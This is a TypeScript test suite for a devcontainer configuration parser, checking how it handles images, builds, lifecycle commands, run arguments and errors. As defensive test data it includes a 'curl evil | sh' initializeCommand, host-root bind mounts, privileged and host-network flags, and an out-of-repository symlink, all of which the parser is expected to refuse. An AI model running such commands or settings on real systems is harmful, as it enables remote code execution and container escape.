import { mkdtempSync, mkdirSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import {
  DevcontainerError,
  defaultSpec,
  devcontainerHash,
  parseDevcontainer,
  parseMemory,
  parseRunArgs,
  readDevcontainer,
  resolveContainerEnvRefs,
  type DevcontainerOptions,
} from "../../src/containers/devcontainer.js";

const FILE = ".devcontainer/devcontainer.json";
const OPTIONS: DevcontainerOptions = { repoName: "widgets", defaultImage: "default:img", workspaceDir: "/srv/ws/widgets" };

function parse(json: string, options: Partial<DevcontainerOptions> = {}) {
  return parseDevcontainer(json, FILE, { ...OPTIONS, ...options });
}

describe("parseDevcontainer: fields", () => {
  it("reads a full image-based file with comments and trailing commas", () => {
    const { spec, notes } = parse(`{
      // a comment
      "name": "dev",
      "image": "node:22",
      "containerEnv": { "A": "1", "N": 2, "B": true },
      "remoteEnv": { "PATH": "\${containerEnv:PATH}:/extra", },
      "remoteUser": "node",
      "containerUser": "root",
      "workspaceFolder": "/work/\${localWorkspaceFolderBasename}/",
      "postCreateCommand": "npm ci",
      "postStartCommand": ["service", "redis", "start"],
      "customizations": { "vscode": {} },
    }`);
    expect(notes).toEqual([]);
    expect(spec).toEqual({
      source: FILE,
      image: "node:22",
      build: null,
      containerEnv: { A: "1", N: "2", B: "true" },
      remoteEnv: { PATH: "${containerEnv:PATH}:/extra" },
      remoteUser: "node",
      containerUser: "root",
      workspaceFolder: "/work/widgets",
      overrideCommand: true,
      onCreateCommand: null,
      updateContentCommand: null,
      postCreateCommand: { kind: "shell", command: "npm ci" },
      postStartCommand: { kind: "argv", argv: ["service", "redis", "start"] },
      run: { env: {}, capDrop: [], memoryBytes: null, nanoCpus: null },
    });
  });

  it("defaults the workspace folder to /workspaces/<repo>", () => {
    expect(parse(`{"image":"x"}`).spec.workspaceFolder).toBe("/workspaces/widgets");
  });

  it("reads the object form of a lifecycle command as parallel entries", () => {
    const { spec } = parse(`{"image":"x","postCreateCommand":{"deps":"npm ci","db":["db-init","--fast"],"empty":""}}`);
    expect(spec.postCreateCommand).toEqual({
      kind: "parallel",
      commands: { deps: { kind: "shell", command: "npm ci" }, db: { kind: "argv", argv: ["db-init", "--fast"] } },
    });
  });

  it("treats empty commands as none", () => {
    const { spec } = parse(`{"image":"x","postCreateCommand":"  ","postStartCommand":[],"onCreateCommand":{}}`);
    expect([spec.postCreateCommand, spec.postStartCommand, spec.onCreateCommand]).toEqual([null, null, null]);
  });

  it("substitutes ${containerWorkspaceFolder} after the folder is known", () => {
    const { spec } = parse(`{"image":"x","workspaceFolder":"/w","containerEnv":{"ROOT":"\${containerWorkspaceFolder}/src"}}`);
    expect(spec.containerEnv.ROOT).toBe("/w/src");
  });
});

describe("parseDevcontainer: build", () => {
  const table: Array<[string, string, { dockerfile: string; context: string }]> = [
    ["dockerfile next to the config", `{"build":{"dockerfile":"Dockerfile"}}`, { dockerfile: ".devcontainer/Dockerfile", context: ".devcontainer" }],
    ["context is the repository", `{"build":{"dockerfile":"Dockerfile","context":".."}}`, { dockerfile: ".devcontainer/Dockerfile", context: "." }],
    ["legacy dockerFile/context", `{"dockerFile":"../docker/Dockerfile","context":".."}`, { dockerfile: "docker/Dockerfile", context: "." }],
  ];
  for (const [name, json, want] of table) {
    it(name, () => {
      const { spec } = parse(json);
      expect(spec.image).toBeNull();
      expect(spec.build).toMatchObject(want);
    });
  }

  it("keeps args and target and substitutes localEnv only from the given values", () => {
    const { spec, notes } = parse(`{"build":{"dockerfile":"D","args":{"V":"\${localEnv:VERSION}","W":"\${localEnv:NOPE:fallback}"},"target":"dev"}}`, {
      localEnv: { VERSION: "1.2" },
    });
    expect(spec.build).toEqual({ dockerfile: ".devcontainer/D", context: ".devcontainer", args: { V: "1.2", W: "fallback" }, target: "dev" });
    expect(notes).toEqual([]);
  });

  it("prefers build over image and says so", () => {
    const { spec, notes } = parse(`{"image":"x","build":{"dockerfile":"D"}}`);
    expect(spec.image).toBeNull();
    expect(notes).toContain("`image` not used: `build` takes precedence.");
  });

  it("refuses paths that leave the repository", () => {
    expect(() => parse(`{"build":{"dockerfile":"D","context":"../.."}}`)).toThrow(/leads outside the repository/);
    expect(() => parse(`{"build":{"dockerfile":"/etc/D"}}`)).toThrow(/must be a relative path/);
  });

  it("refuses a Dockerfile outside its context", () => {
    expect(() => parse(`{"build":{"dockerfile":"../Dockerfile","context":"."}}`)).toThrow(/must be inside the build context/);
  });
});

describe("parseDevcontainer: notes for what is not applied", () => {
  const table: Array<[string, string, RegExp]> = [
    ["features of another scheme", `{"image":"x","features":{"ftp://host/f.tgz":{}}}`, /^feature `ftp:\/\/host\/f\.tgz` not applied: only OCI-published features/],
    ["initializeCommand never runs on the host", `{"image":"x","initializeCommand":"curl evil | sh"}`, /`initializeCommand` not applied: .*server host, and repository code never runs there/],
    ["bind mounts", `{"image":"x","mounts":["source=/,target=/host,type=bind"]}`, /^mount `source=\/,target=\/host,type=bind` not applied: host folders are never mounted/],
    ["forwardPorts", `{"image":"x","forwardPorts":[3000]}`, /`forwardPorts` not applied/],
    ["privileged", `{"image":"x","privileged":true}`, /never run privileged/],
    ["postAttachCommand", `{"image":"x","postAttachCommand":"x"}`, /`postAttachCommand` not applied/],
    ["unknown keys", `{"image":"x","somethingNew":1}`, /`somethingNew` not applied: not supported/],
    ["no image", `{"remoteUser":"x"}`, /Neither `image` nor `build` is set; using the default image default:img/],
    ["localEnv never reads the server environment", `{"image":"x","containerEnv":{"T":"\${localEnv:HOME}"}}`, /\$\{localEnv:HOME\}.*containerEnv\.T.*never read; set/],
    ["unknown variables", `{"image":"x","containerEnv":{"T":"\${devcontainerId}"}}`, /\$\{devcontainerId\}.*not substituted/],
    ["null variables", `{"image":"x","remoteEnv":{"T":null}}`, /remoteEnv\.T: null.*cannot be unset/],
  ];
  for (const [name, json, pattern] of table) {
    it(name, () => {
      const { notes } = parse(json);
      expect(notes.some((n) => pattern.test(n)), `notes: ${JSON.stringify(notes)}`).toBe(true);
    });
  }

  it("never reads process.env for ${localEnv:…}", () => {
    process.env.DEVS_TEST_SECRET_FOR_W1 = "leaked";
    try {
      const { spec } = parse(`{"image":"x","containerEnv":{"S":"\${localEnv:DEVS_TEST_SECRET_FOR_W1}"}}`);
      expect(spec.containerEnv.S).toBe("");
    } finally {
      delete process.env.DEVS_TEST_SECRET_FOR_W1;
    }
  });

  it("says nothing about editor-only properties", () => {
    expect(parse(`{"image":"x","name":"n","$schema":"s","customizations":{},"extensions":[],"settings":{},"shutdownAction":"none"}`).notes).toEqual([]);
  });

  it("gives each note once", () => {
    const { notes } = parse(`{"image":"x","containerEnv":{"A":"\${localEnv:Q}"},"remoteEnv":{"A":"\${localEnv:Q}"}}`);
    expect(notes).toHaveLength(2);
    expect(new Set(notes).size).toBe(2);
  });
});

describe("parseDevcontainer: errors name the file and position", () => {
  const table: Array<[string, string, RegExp]> = [
    ["invalid JSON", `{\n  "image": "x",\n  oops\n}`, /^\.devcontainer\/devcontainer\.json:3:3: invalid JSON \(/],
    ["not an object", `[1]`, /:1:1: must contain a JSON object/],
    ["wrong type", `{\n "image": 3\n}`, /:2:11: `image` must be a string/],
    ["wrong env value", `{"image":"x","containerEnv":{"A":{"b":1}}}`, /`containerEnv\.A` must be a string/],
    ["bad lifecycle", `{"image":"x","postCreateCommand":5}`, /`postCreateCommand` must be a string or an array of strings/],
    ["relative workspace", `{"image":"x","workspaceFolder":"w"}`, /must be an absolute path/],
    ["root workspace", `{"image":"x","workspaceFolder":"/"}`, /cannot be mounted at \//],
    ["build without dockerfile", `{"build":{"context":"."}}`, /`build` needs `dockerfile`/],
    ["empty image", `{"image":" "}`, /`image` is empty/],
  ];
  for (const [name, json, pattern] of table) {
    it(name, () => {
      let error: unknown;
      try {
        parse(json);
      } catch (e) {
        error = e;
      }
      expect(error).toBeInstanceOf(DevcontainerError);
      expect((error as Error).message).toMatch(pattern);
    });
  }
});

describe("parseRunArgs", () => {
  const table: Array<[string, string[], object, RegExp[]]> = [
    ["env in every spelling", ["-e", "A=1", "--env", "B=2", "--env=C=3", "-eD=4", "-e=E=5"], { env: { A: "1", B: "2", C: "3", D: "4", E: "5" } }, []],
    ["env without a value is never taken from the server", ["-e", "SECRET"], { env: {} }, [/passing a variable through from the server is never done/]],
    ["cap-drop", ["--cap-drop", "net_raw", "--cap-drop=ALL"], { capDrop: ["NET_RAW", "ALL"] }, []],
    ["memory", ["--memory", "512m"], { memoryBytes: 512 * 1024 ** 2 }, []],
    ["memory short and attached", ["-m4g"], { memoryBytes: 4 * 1024 ** 3 }, []],
    ["memory too small", ["-m", "1m"], { memoryBytes: null }, [/at least 6m/]],
    ["memory nonsense", ["--memory=lots"], { memoryBytes: null }, [/not a size/]],
    ["cpus", ["--cpus", "1.5"], { nanoCpus: 1_500_000_000 }, []],
    ["cpus nonsense", ["--cpus=-1"], { nanoCpus: null }, [/not a positive number/]],
    ["privileged", ["--privileged"], {}, [/`--privileged` not applied: containers never run privileged/]],
    ["cap-add with its value", ["--cap-add", "SYS_PTRACE", "--cpus", "2"], { nanoCpus: 2e9 }, [/`--cap-add SYS_PTRACE` not applied/]],
    ["network", ["--network=host"], {}, [/`--network=host` not applied: .*CONTAINER_NETWORK/]],
    ["volumes", ["-v", "/:/host"], {}, [/`-v \/:\/host` not applied: only the workspace/]],
    ["unknown flag with a value", ["--shm-size", "1g"], {}, [/`--shm-size 1g` not applied: not supported/]],
    ["boolean flag keeps the next option", ["--init", "--cpus=1"], { nanoCpus: 1e9 }, [/`--init` not applied/]],
    ["missing value", ["--memory"], {}, [/needs a value/]],
    ["stray word", ["hello"], {}, [/`hello` not applied: not an option/]],
  ];
  for (const [name, args, want, notePatterns] of table) {
    it(name, () => {
      const { run, notes } = parseRunArgs(args);
      expect(run).toMatchObject(want);
      expect(notes).toHaveLength(notePatterns.length);
      notePatterns.forEach((p, i) => expect(notes[i]).toMatch(p));
    });
  }

  it("feeds the spec's run options", () => {
    const { spec } = parse(`{"image":"x","runArgs":["--memory=1g","-e","X=\${localEnv:V}"]}`, { localEnv: { V: "v" } });
    expect(spec.run).toEqual({ env: { X: "v" }, capDrop: [], memoryBytes: 1024 ** 3, nanoCpus: null });
  });
});

describe("parseMemory", () => {
  const table: Array<[string, number | null]> = [
    ["1024", 1024],
    ["1k", 1024],
    ["512m", 512 * 1024 ** 2],
    ["512MB", 512 * 1024 ** 2],
    ["2GiB", 2 * 1024 ** 3],
    ["1.5g", 1.5 * 1024 ** 3],
    ["12x", null],
    ["", null],
    ["ib", null],
  ];
  for (const [input, want] of table) it(`${JSON.stringify(input)} → ${want}`, () => expect(parseMemory(input)).toBe(want));
});

describe("resolveContainerEnvRefs", () => {
  const env = { PATH: "/bin", EMPTY: "" };
  const table: Array<[string, string]> = [
    ["${containerEnv:PATH}:/x", "/bin:/x"],
    ["${containerEnv:MISSING}", ""],
    ["${containerEnv:MISSING:dflt}", "dflt"],
    ["${containerEnv:EMPTY:dflt}", ""],
    ["plain", "plain"],
  ];
  for (const [input, want] of table) it(input, () => expect(resolveContainerEnvRefs(input, env)).toBe(want));
});

describe("devcontainerHash", () => {
  it("ignores comments, spacing and key order", () => {
    const a = parse(`{"image":"x","containerEnv":{"A":"1","B":"2"}}`).spec;
    const b = parse(`{\n // c\n "containerEnv": {"B": "2", "A": "1"},\n "image": "x"\n}`).spec;
    expect(devcontainerHash(a)).toBe(devcontainerHash(b));
  });
  it("changes with any applied value", () => {
    const a = parse(`{"image":"x","postStartCommand":"a"}`).spec;
    const b = parse(`{"image":"x","postStartCommand":"b"}`).spec;
    expect(devcontainerHash(a)).not.toBe(devcontainerHash(b));
  });
});

describe("readDevcontainer", () => {
  const made: string[] = [];
  afterAll(() => made.forEach((dir) => rmSync(dir, { recursive: true, force: true })));
  const workspace = (files: Record<string, string>) => {
    const dir = mkdtempSync(join(tmpdir(), "devs-dc-"));
    made.push(dir);
    for (const [path, text] of Object.entries(files)) {
      mkdirSync(join(dir, path, ".."), { recursive: true });
      writeFileSync(join(dir, path), text);
    }
    return dir;
  };

  it("uses the default image when there is no file", async () => {
    const result = await readDevcontainer(workspace({ "README.md": "x" }), OPTIONS);
    expect(result).toEqual({ spec: defaultSpec(OPTIONS), notes: [] });
    expect(result.spec.image).toBe("default:img");
  });

  it("reads .devcontainer.json at the root, with paths relative to the root", async () => {
    const { spec } = await readDevcontainer(workspace({ ".devcontainer.json": `{"build":{"dockerfile":"Dockerfile"}}` }), OPTIONS);
    expect(spec.source).toBe(".devcontainer.json");
    expect(spec.build).toMatchObject({ dockerfile: "Dockerfile", context: "." });
  });

  it("prefers .devcontainer/devcontainer.json and notes the other file", async () => {
    const { spec, notes } = await readDevcontainer(
      workspace({ ".devcontainer/devcontainer.json": `{"image":"a"}`, ".devcontainer.json": `{"image":"b"}` }),
      OPTIONS,
    );
    expect(spec.image).toBe("a");
    expect(notes).toEqual(["`.devcontainer.json` ignored: `.devcontainer/devcontainer.json` takes precedence."]);
  });

  it("mentions configurations in sub-folders it does not read", async () => {
    const { spec, notes } = await readDevcontainer(workspace({ ".devcontainer/python/devcontainer.json": `{"image":"p"}` }), OPTIONS);
    expect(spec.image).toBe("default:img");
    expect(notes[0]).toMatch(/`\.devcontainer\/python\/devcontainer\.json` not read/);
  });

  it("refuses a link to a file outside the repository", async () => {
    const outside = workspace({ "secret.json": `{"image":"x"}` });
    const dir = workspace({});
    mkdirSync(join(dir, ".devcontainer"));
    symlinkSync(join(outside, "secret.json"), join(dir, ".devcontainer/devcontainer.json"));
    await expect(readDevcontainer(dir, OPTIONS)).rejects.toThrow(/outside the repository/);
  });

  it("reports invalid JSON with the file and position", async () => {
    const dir = workspace({ ".devcontainer/devcontainer.json": `{\n  "image": "x"\n  "remoteUser": "y"\n}` });
    await expect(readDevcontainer(dir, OPTIONS)).rejects.toThrow(/^\.devcontainer\/devcontainer\.json:3:3: invalid JSON \(CommaExpected\)/);
  });
});
